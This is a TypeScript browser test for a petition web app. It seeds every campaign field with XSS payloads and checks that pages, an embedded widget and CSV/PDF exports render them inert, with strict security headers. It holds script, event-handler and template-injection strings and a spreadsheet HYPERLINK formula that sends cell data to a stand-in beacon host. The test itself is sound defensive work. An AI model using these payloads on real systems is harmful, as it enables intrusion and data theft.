/**
 * Injection in a real browser (issue #7): a campaign whose title, text (markdown), addressees,
 * co-signing organisations and signers' comments are full of XSS payloads, made and signed through
 * the API, then shown on the public page, in the widget (on our embed page and on a partner's page
 * on another origin), and on the organisers' campaign page, dashboard and editor.
 *
 * "Inert" is checked three ways on each page: no payload ran (`window.__xss` is never set, no
 * dialog opened), nothing was even tried (no CSP violation report: a payload the CSP had to block
 * would still be an injection), and the DOM holds no element or attribute a payload could have made
 * (scripts from elsewhere, event-handler attributes, script: links, frames, images, SVG, styles);
 * and no request leaves the origins involved. Then "shown as text": each field reads back exactly
 * as it was typed. The exports (CSV and PDF, through the real job runner) carry the same strings.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import type { Frame, Page } from 'playwright-core';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { linksIn, waitForMail } from '../support/mailbox.ts';
import { signLikeBrowser } from '../support/signer.ts';
import { BEACON, HOSTILE_MARKDOWN, HTML_PAYLOADS, XSS_FLAG } from '../support/injection-payloads.ts';
import { isStorableText } from '#rules/text-schema.ts';
import { DESKTOP, PHONE, apiCount, signInOrganiser, startBrowserStack, type BrowserStack } from './support.ts';

const SLUG = 'xss-every-field';
/**
 * The payloads a campaign can hold: bidi overrides are refused in every stored string (the one rule
 * for stored text, #rules/text-schema.ts; test/integration/well-formed-text.test.ts), so they are
 * left out of what this test stores.
 */
const STORABLE = HTML_PAYLOADS.filter((payload) => isStorableText(payload));
const storable = (markdown: string) => markdown.replace(/[\u202a-\u202e\u2066-\u2069]/g, '');
/** 200 characters at most, like any title. */
const TITLE = `<script>window.__xss=1</script><img src=x onerror=window.__xss=1>"'></title><svg onload=window.__xss=1> &lt;b&gt; Pay exe.gnp`;
const TEXT = storable(HOSTILE_MARKDOWN);
/** Twenty addressees (the most a campaign has), each name and office a payload. */
const TARGETS = STORABLE.slice(0, 20).map((name, i) => ({ name, office: STORABLE[(i + 7) % STORABLE.length]! }));
/** Organisation names may not hold < or > (or control and bidi characters); the rest is theirs. */
const COSIGNERS = [
  { name: `Watch "'&amp; &lt;script&gt; ' onmouseover='window.__xss=1`, website: `https://${BEACON}.example/"><script>window.__xss=1</script>` },
  { name: `javascript:window.__xss=1 {{constructor.constructor('window.__xss=1')()}}`, website: `https://${BEACON}.example/?a="onmouseover="window.__xss=1` },
];
/** Signer names may hold apostrophes, hyphens and full stops, the attribute breakers a name needs. */
const SIGNERS = [
  { name: "D'Arc-'Joan O’Brien", comment: HTML_PAYLOADS[0]! },
  { name: "'.'-Ann Lee", comment: '=HYPERLINK("https://xss-beacon.example/?"&A1,"click")' },
  { name: 'Nino Beridze', comment: TEXT.slice(0, 1000) },
];

let bs: BrowserStack;
let token: string;
let partner: Server;
let partnerOrigin: string;
/** Every URL any page of the test requested, and every dialog that opened. */
const requests: string[] = [];
const dialogs: string[] = [];

async function api(method: string, path: string, body?: unknown, auth = true): Promise<{ status: number; json: any }> {
  const response = await fetch(`${bs.stack.app}${path}`, {
    method,
    headers: {
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(auth ? { authorization: `Bearer ${token}` } : {}),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  return { status: response.status, json: text ? JSON.parse(text) : undefined };
}

/** A page that records every request, dialog and CSP violation; CDP's init script is not subject to the CSP. */
async function watchedPage(viewport = DESKTOP): Promise<Page> {
  const page = await bs.newPage(viewport);
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
    });
  });
  return page;
}

/**
 * What a payload would leave behind in a document if it had been parsed as markup: the list of
 * findings (empty when the document is clean). `ownScripts` are the page's own module scripts.
 */
async function findings(target: Page | Frame): Promise<string[]> {
  return target.evaluate(
    ({ flag }) => {
      const found: string[] = [];
      const w = window as unknown as Record<string, unknown>;
      if (w[flag] !== undefined) found.push(`window.${flag} = ${String(w[flag])}`);
      for (const v of (w.__cspViolations as string[] | undefined) ?? []) found.push(`CSP violation: ${v}`);
      for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
          if (/^on/i.test(attr.name)) found.push(`<${el.localName} ${attr.name}="${attr.value}">`);
          if (/^\s*(javascript|data|vbscript):/i.test(attr.value) && attr.name !== 'value' && !(el.localName === 'link' && attr.name === 'href')) {
            found.push(`<${el.localName} ${attr.name}="${attr.value}">`);
          }
        }
      }
      for (const script of document.querySelectorAll('script')) {
        if (!script.src || new URL(script.src).origin !== location.origin) found.push(`<script src="${script.src}">${script.textContent}`);
      }
      for (const el of document.body.querySelectorAll('iframe, frame, object, embed, img, svg, math, style, base, meta, link, form[action], input[type=image]')) {
        // The page's own icons (the checkbox tick): hidden from readers, shapes only.
        const icon = el.localName === 'svg' && el.getAttribute('aria-hidden') === 'true' && [...el.querySelectorAll('*')].every((c) => ['path', 'polyline', 'line', 'circle', 'rect', 'g'].includes(c.localName));
        if (icon) continue;
        found.push(`<${el.localName}> in the body: ${el.outerHTML.slice(0, 120)}`);
      }
      // The head holds the page's own <meta> CSP and nothing a payload could add (a base, a refresh).
      for (const el of document.head.querySelectorAll('base, meta[http-equiv]')) {
        if (el.getAttribute('http-equiv') !== 'Content-Security-Policy') found.push(`<${el.localName}> in the head: ${el.outerHTML.slice(0, 120)}`);
      }
      for (const a of document.querySelectorAll('a[href]')) {
        const url = new URL((a as HTMLAnchorElement).href);
        if (!['http:', 'https:', 'mailto:'].includes(url.protocol)) found.push(`link to ${url.href}`);
      }
      return found;
    },
    { flag: XSS_FLAG },
  );
}

/** The requests that went anywhere but the origins the test serves (and the fetch beacons). */
function strayRequests(): string[] {
  const allowed = [bs.stack.app, partnerOrigin];
  return requests.filter((url) => url.includes(BEACON) || !allowed.some((origin) => url.startsWith(`${origin}/`)) || /\/x$/.test(new URL(url).pathname));
}

const textsOf = (target: Page | Frame, selector: string) => target.locator(selector).evaluateAll((els) => els.map((el) => el.textContent ?? ''));

beforeAll(async () => {
  bs = await startBrowserStack();
  partner = createServer((request, response) => {
    if (request.url !== '/') return void response.writeHead(404).end();
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      .end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Partner</title></head><body><main><h1>Partner</h1>` +
        `<script src="${bs.stack.app}/widget.js" data-campaign="${SLUG}" async></script></main></body></html>`);
  });
  await new Promise<void>((resolve) => partner.listen(0, '127.0.0.1', resolve));
  partnerOrigin = `http://127.0.0.1:${(partner.address() as AddressInfo).port}`;

  // An editor's API token, made by the demo owner signed in on the page.
  const organiser = await bs.newPage(DESKTOP);
  await signInOrganiser(bs, organiser);
  token = await organiser.evaluate(async () => {
    const response = await fetch('/api/org/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'injection test', role: 'editor' }) });
    return ((await response.json()) as { token: string }).token;
  });

  const created = await api('POST', '/api/org/campaigns', {
    slug: SLUG,
    kind: 'petition',
    title: TITLE,
    text: TEXT,
    targets: TARGETS,
    goal: 100,
    publicSigners: true,
    status: 'open',
    signerFields: { country: 'required', comment: 'optional' },
  });
  expect(created.status, JSON.stringify(created.json)).toBe(201);

  for (const cosigner of COSIGNERS) {
    const invite = await api('POST', `/api/org/campaigns/${SLUG}/cosign-invites`, {});
    const inviteToken = String(invite.json.url).split('/').at(-1);
    const signed = await api('POST', `/api/campaigns/${SLUG}/cosigners`, { token: inviteToken, country: 'DE', ...cosigner }, false);
    expect(signed.status, JSON.stringify(signed.json)).toBe(201);
  }

  const call = async (method: string, path: string, body?: unknown) => api(method, path, body, false);
  for (const [i, signer] of SIGNERS.entries()) {
    const email = `injection-${i}-${Date.now()}@example.org`;
    const { status } = await signLikeBrowser(call, SLUG, { ...signer, email, country: 'GE', showName: true });
    expect(status).toBe(202);
    const link = linksIn(await waitForMail(bs.stack.mailbox, { to: email, timeoutMs: 15_000 })).confirm!;
    expect((await call('POST', `/api/campaigns/${SLUG}/signatures/${link.id}/confirm`, { token: link.token })).status).toBe(200);
  }
  for (let waited = 0; (await apiCount(bs.stack.app, SLUG)) < SIGNERS.length; waited += 100) {
    if (waited > 20_000) throw new Error('The confirmed signatures were not counted.');
    await new Promise((r) => setTimeout(r, 100));
  }
});

afterAll(async () => {
  await new Promise((resolve) => partner?.close(resolve));
  await bs?.stop();
});

describe('the public page', () => {
  it('runs none of the payloads and shows every field as the text it is', async () => {
    const page = await watchedPage(DESKTOP);
    await page.goto(`${bs.stack.app}/#/p/${SLUG}`);
    await page.locator('h1.petition-title').waitFor();
    await page.locator('.signer-list li').nth(SIGNERS.length - 1).waitFor();
    await page.locator('.cosigner-list li').nth(COSIGNERS.length - 1).waitFor();
    // Let a late onerror/onload (an image that failed to load) have its chance.
    await page.waitForTimeout(500);

    expect(await findings(page)).toEqual([]);
    expect(await page.locator('h1.petition-title').textContent()).toBe(TITLE);
    expect(await page.title()).toBe(`${TITLE} — Undersigned`);
    expect(await textsOf(page, '.target-name')).toEqual(TARGETS.map((t) => t.name));
    expect(await textsOf(page, '.target-office')).toEqual(TARGETS.map((t) => t.office));
    expect(await textsOf(page, '.cosigner-list li a')).toEqual(COSIGNERS.map((c) => c.name));
    // The address is what was given, as a URL (the quotes and brackets percent-encoded): an attribute value, never markup.
    expect(await page.locator('.cosigner-list li a').evaluateAll((as) => as.map((a) => a.getAttribute('href')))).toEqual(COSIGNERS.map((c) => new URL(c.website).href));
    expect(await page.locator('.cosigner-list li a').first().getAttribute('rel')).toContain('noopener');
    // Signers as the server labels them ("first name, initial"), apostrophes and all.
    const signers = (await textsOf(page, '.signer-list li')).join('\n');
    expect(signers).toContain("D'Arc-'Joan O.");
    expect(signers).toContain("'.'-Ann L.");

    // The campaign text: markdown formatting, every raw-HTML payload shown as its characters.
    const text = page.locator('.petition-text');
    const shown = (await text.textContent())!;
    for (const payload of STORABLE.filter((p) => !p.includes('&'))) expect(shown).toContain(payload);
    expect(await text.locator('h2').first().textContent()).toBe('<script>window.__xss=1</script> heading');
    // Entities are markdown's: they show as the characters they name, still as text.
    expect(shown).toContain('<script>window.__xss=1</script> & <b> "');
    // Links keep only http(s) addresses: the script, data and vbscript ones lose theirs.
    const links = await text.locator('a').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel')]));
    expect(links.filter(([, href]) => href !== null)).toEqual([
      ['quote breaker', 'https://example.org/%22onmouseover=%22window.__xss=1', 'noopener noreferrer nofollow'],
      ['ok link', 'https://example.org/petition', 'noopener noreferrer nofollow'],
    ]);
    expect(links.map(([label]) => label)).toEqual(expect.arrayContaining(['plain js', 'mixed case', 'entity', 'data', 'vbscript', 'reference']));

    // The sign form echoes nothing it was given: a refused name is answered by field, not by markup.
    expect(dialogs).toEqual([]);
    expect(strayRequests()).toEqual([]);
    await page.screenshot({ path: '/tmp/injection-public-page.png', fullPage: true });
  });

  it('refuses markup in a signer’s name, naming the field', async () => {
    const call = async (method: string, path: string, body?: unknown) => api(method, path, body, false);
    const refused = await signLikeBrowser(call, SLUG, { name: '<img src=x onerror=window.__xss=1>', email: 'refused@example.org', country: 'GE' });
    expect(refused.status).toBe(400);
    expect(Object.keys((refused.json as { error: { fields: Record<string, string> } }).error.fields)).toEqual(['name']);
  });
});

describe('the co-sign page', () => {
  it('shows the letter an invitation asks to sign inert: title, addressees and text as the text they are', async () => {
    const invite = await api('POST', `/api/org/campaigns/${SLUG}/cosign-invites`, {});
    const page = await watchedPage(PHONE);
    await page.goto(String(invite.json.url));
    await page.locator('.cosign-letter-title').waitFor();
    await page.waitForTimeout(500);

    expect(await findings(page)).toEqual([]);
    expect(await page.locator('.cosign-letter-title').textContent()).toBe(TITLE);
    expect(await textsOf(page, '.cosign-letter .target-name')).toEqual(TARGETS.map((t) => t.name));
    expect(await textsOf(page, '.cosign-letter .target-office')).toEqual(TARGETS.map((t) => t.office));
    const shown = (await page.locator('.cosign-letter .petition-text').textContent())!;
    for (const payload of STORABLE.filter((p) => !p.includes('&'))) expect(shown).toContain(payload);
    expect(dialogs).toEqual([]);
    expect(strayRequests()).toEqual([]);
  });
});

describe('the widget', () => {
  it('on our embed page: inert, the title as text', async () => {
    const page = await watchedPage(PHONE);
    await page.goto(`${bs.stack.app}/embed.html?slug=${SLUG}`);
    await page.locator('.tally-number', { hasText: String(SIGNERS.length) }).waitFor();
    await page.waitForTimeout(300);
    expect(await findings(page)).toEqual([]);
    expect(await page.getByText(TITLE, { exact: true }).count()).toBe(1);
    expect(strayRequests()).toEqual([]);
  });

  it('on a partner’s page (another origin): the partner’s page stays clean and names the frame with the title as text', async () => {
    const page = await watchedPage(PHONE);
    await page.goto(`${partnerOrigin}/`);
    const frame = page.locator(`iframe[src^="${bs.stack.app}/embed.html"]`);
    await expect.poll(() => frame.getAttribute('title'), { timeout: 15_000 }).toBe(TITLE);
    const embed = page.frames().find((f) => f.url().startsWith(`${bs.stack.app}/embed.html`))!;
    await embed.locator('.tally-number', { hasText: String(SIGNERS.length) }).waitFor();
    await page.waitForTimeout(300);
    expect(await findings(embed)).toEqual([]);
    // The partner's own page: its one script is ours (widget.js) and the one frame is the widget's.
    const partnerFindings = (await findings(page)).filter(
      (f) => !f.startsWith(`<script src="${bs.stack.app}/widget.js">`) && !f.startsWith('<iframe> in the body') && !f.startsWith('<meta> in the body'),
    );
    expect(partnerFindings).toEqual([]);
    expect(await page.locator('iframe').count()).toBe(1);
    expect(dialogs).toEqual([]);
    expect(strayRequests()).toEqual([]);
  });
});

describe('the organisers’ pages', () => {
  it('campaign page, dashboard, editor and list: inert, the fields as text, the snippet escaped', async () => {
    const page = await watchedPage(DESKTOP);
    await signInOrganiser(bs, page);
    await page.waitForTimeout(300);
    expect(await findings(page)).toEqual([]);
    expect(await page.getByText(TITLE, { exact: true }).count()).toBe(1);

    await page.goto(`${bs.stack.app}/#/org/c/${SLUG}`);
    await page.locator('h1').filter({ hasText: 'Pay' }).waitFor();
    await page.locator('.cosigner-list li').nth(COSIGNERS.length - 1).waitFor();
    await page.waitForTimeout(500);
    expect(await findings(page)).toEqual([]);
    expect(await page.locator('h1').filter({ hasText: 'Pay' }).textContent()).toBe(TITLE);
    const cosigners = (await textsOf(page, '.cosigner-list li')).join('\n');
    for (const { name } of COSIGNERS) expect(cosigners).toContain(name);

    // The iframe snippet an organisation pastes into its own site: one iframe, the title only as its
    // title attribute, nothing else when a browser parses it.
    const snippet = await page.locator('#embed-iframe').inputValue();
    // Parsed in a blank page: the snippet's own style attribute is for the partner's page, and
    // parsing it under our CSP would count as an inline style here.
    const blank = await bs.newPage(DESKTOP);
    await blank.setContent('<!doctype html><title>partner</title>');
    const parsed = await blank.evaluate((html) => {
      const doc = new DOMParser().parseFromString(html, 'text/html');
      return { tags: [...doc.body.querySelectorAll('*')].map((el) => el.localName), title: doc.querySelector('iframe')?.getAttribute('title'), head: doc.head.children.length };
    }, snippet);
    expect(parsed).toEqual({ tags: ['iframe'], title: TITLE, head: 0 });

    await page.goto(`${bs.stack.app}/#/org/c/${SLUG}/edit`);
    await page.locator('#campaign-text').waitFor();
    await page.waitForTimeout(300);
    expect(await findings(page)).toEqual([]);
    expect(await page.locator('#campaign-text').inputValue()).toBe(TEXT);
    expect(await page.locator('#campaign-title').inputValue()).toBe(TITLE);
    expect(dialogs).toEqual([]);
    expect(strayRequests()).toEqual([]);
  });

  it('the exports carry the strings as given: CSV cells neutralised, PDF text literal', async () => {
    const exported = async (format: 'csv' | 'pdf'): Promise<Buffer> => {
      const job = await api('POST', `/api/org/campaigns/${SLUG}/exports`, { format });
      expect(job.status, JSON.stringify(job.json)).toBe(202);
      for (let waited = 0; ; waited += 200) {
        const state = await api('GET', `/api/org/campaigns/${SLUG}/exports/${job.json.id}`);
        if (state.json.download) return Buffer.from(await (await fetch(state.json.download.url)).arrayBuffer());
        if (state.json.status === 'failed' || waited > 30_000) throw new Error(`The ${format} export ended ${state.json.status} (${state.json.error}).`);
        await new Promise((r) => setTimeout(r, 200));
      }
    };
    const csv = parse((await exported('csv')).toString('utf8').replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    expect(csv.map((row) => row.comment).sort()).toEqual(
      SIGNERS.map((s) => (/^[=+\-@]/.test(s.comment) ? `'${s.comment}` : s.comment.trim())).sort(),
    );
    const pdf = await getDocumentProxy(new Uint8Array(await exported('pdf')));
    const squash = (s: string) => s.replace(/[\s\p{Cf}]+/gu, '');
    const text = squash((await extractText(pdf, { mergePages: true })).text);
    for (const payload of [TITLE, ...TARGETS.map((t) => t.name), SIGNERS[0]!.comment]) expect(text).toContain(squash(payload));
    // A co-signer's name wraps inside its table cell, line by line beside the website's: word by word.
    for (const word of COSIGNERS.flatMap((c) => c.name.split(/\s+/))) expect(text).toContain(squash(word));
    for (let n = 1; n <= pdf.numPages; n++) expect(await (await pdf.getPage(n)).getAnnotations()).toEqual([]);
    expect(await pdf.getJSActions()).toBeNull();
  });
});

describe('headers on the real stack', () => {
  it.each([
    ['/', "'none'"],
    ['/embed.html', '*'],
    ['/widget.js', "'none'"],
    ['/api/campaigns', "'none'"],
    [`/api/campaigns/${SLUG}`, "'none'"],
    ['/api/campaigns/no-such-campaign', "'none'"],
    ['/api/org/campaigns', "'none'"],
  ])('%s: CSP without unsafe-inline, frame-ancestors %s, HSTS, nosniff, no referrer', async (path, framing) => {
    const response = await fetch(`${bs.stack.app}${path}`);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/(^|; )script-src 'self'(;|$)/);
    expect(csp).toMatch(/(^|; )style-src 'self'(;|$)/);
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).toContain(`frame-ancestors ${framing}`);
    expect(response.headers.get('x-frame-options')).toBe(framing === '*' ? null : 'DENY');
    expect(response.headers.get('strict-transport-security')).toMatch(/^max-age=\d{8,}; includeSubDomains$/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    await response.arrayBuffer();
  });

  it('logged no page errors', () => {
    expect(bs.pageErrors).toEqual([]);
  });
});
